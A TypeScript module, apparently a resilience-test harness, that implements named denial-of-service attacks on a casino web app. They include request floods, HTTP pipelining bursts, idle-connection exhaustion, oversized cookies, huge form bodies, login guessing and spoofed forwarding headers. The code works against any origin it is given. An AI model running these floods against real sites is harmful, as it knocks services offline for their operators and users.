import { setMaxListeners } from 'node:events';
import { Agent, request as httpRequest } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** What an attack may use. */
export interface Target {
  readonly origin: string;
  /** The session of a player whom the attacker has registered. */
  readonly cookie: string;
  /** Aborts when the attack is over. */
  readonly signal: AbortSignal;
}

export type Attack = (target: Target) => Promise<void>;

/** The attacker's network. */
const ADDRESS = '203.0.113.9';

interface Sent {
  readonly path: string;
  readonly body?: string;
  readonly cookie?: string;
}

/** Connections are kept, as those of a proxy are. */
const agent = new Agent({ keepAlive: true });

/** Sends one request with exactly this path, and reads the answer. */
function send({ origin, signal }: Target, { path, body, cookie }: Sent): Promise<void> {
  return new Promise((resolve) => {
    const { hostname, port } = new URL(origin);
    const headers = {
      'x-forwarded-for': ADDRESS,
      ...(cookie && { cookie }),
      ...(body !== undefined && {
        origin: `http://localhost:${port}`,
        'content-type': 'application/x-www-form-urlencoded',
        'content-length': String(body.length),
      }),
    };
    const method = body === undefined ? 'GET' : 'POST';
    const sending = httpRequest({ hostname, port, path, method, headers, agent }, (response) => {
      response.resume();
      response.once('end', () => resolve()).once('close', () => resolve());
    });
    sending.once('error', () => resolve());
    signal.addEventListener('abort', () => sending.destroy(), { once: true });
    sending.end(body);
  });
}

/** Keeps this number of requests open. */
async function hold(count: number, target: Target, next: () => Sent): Promise<void> {
  setMaxListeners(0, target.signal);
  await Promise.all(
    Array.from({ length: count }, async () => {
      while (!target.signal.aborted) await send(target, next());
    }),
  );
}

/** Sends this number of requests a second, and waits for no answer. */
async function fire(perSecond: number, target: Target, next: () => Sent): Promise<void> {
  setMaxListeners(0, target.signal);
  while (!target.signal.aborted) {
    void send(target, next());
    await pause(1_000 / perSecond);
  }
}

const random = () => Math.random().toString(36).slice(2);
const MANY_FIELDS = 'a&'.repeat(32 * 1024);

/** Opens connections that send this number of requests each at once, and read nothing. */
async function pipeline(connections: number, requests: number, { origin, signal }: Target): Promise<void> {
  const { hostname, port } = new URL(origin);
  const head = (path: string) => `GET ${path} HTTP/1.1\r\nHost: site\r\nX-Forwarded-For: ${ADDRESS}\r\n\r\n`;
  const sockets = new Set<Socket>();
  while (!signal.aborted) {
    while (sockets.size < connections) {
      const socket = connect(Number(port), hostname);
      sockets.add(socket);
      socket.pause();
      socket.on('error', () => undefined);
      socket.once('close', () => sockets.delete(socket));
      socket.write(head('/casino/slot').repeat(requests));
    }
    await pause(50);
  }
  for (const socket of sockets) socket.destroy();
}

/** Nearly all that Node reads of a head (16 kB), in cookies that open no session. */
const LARGE_COOKIE = Array.from({ length: 4 }, (_, index) => `__Host-session.${index}=${'A'.repeat(3_700)}`).join('; ');

/** Opens connections over and over, as many as are wanted at a time, and says nothing on them. */
async function openIdle(connections: number, { origin, signal }: Target): Promise<void> {
  const { hostname, port } = new URL(origin);
  const sockets = new Set<Socket>();
  while (!signal.aborted) {
    while (sockets.size < connections) {
      const socket = connect(Number(port), hostname);
      sockets.add(socket);
      socket.on('error', () => undefined);
      socket.once('close', () => sockets.delete(socket));
    }
    await pause(50);
  }
  for (const socket of sockets) socket.destroy();
}

/** By name. The first four are those that stopped the site before it defended itself. */
export const attacks: Readonly<Record<string, Attack>> = {
  'search-150': (target) => hold(150, target, () => ({ path: '/search?search=a' })),
  'dot-segments-15': (target) => fire(15, target, () => ({ path: '/dashboard/receipt/../../search?search=a' })),
  'fields-15': (target) => fire(15, target, () => ({ path: '/dashboard/deposit/1', body: MANY_FIELDS })),
  'pipelining-10': (target) => pipeline(10, 250, target),
  'dot-segments-150': (target) => hold(150, target, () => ({ path: '/dashboard/receipt/../../search?search=a' })),
  'fields-150': (target) => hold(150, target, () => ({ path: '/dashboard/deposit/1', body: MANY_FIELDS })),
  'own-payments-150': (target) => hold(150, target, () => ({ path: '/dashboard/deposit/1', cookie: target.cookie })),
  'logins-150': (target) =>
    hold(150, target, () => ({ path: '/login', body: `username=${random()}&password=guessed` })),
  'cached-pages-150': (target) => hold(150, target, () => ({ path: `/casino/slot?provider=${random()}` })),
  'balances-150': (target) => hold(150, target, () => ({ path: '/balance', cookie: LARGE_COOKIE })),
  'manifests-150': (target) => hold(150, target, () => ({ path: '/manifest.tr.webmanifest', cookie: LARGE_COOKIE })),
  'idle-600': async (target) => {
    await Promise.all([openIdle(600, target), hold(120, target, () => ({ path: '/balance', cookie: LARGE_COOKIE }))]);
  },
  'unknown-150': (target) => hold(150, target, () => ({ path: `/${random()}` })),
};
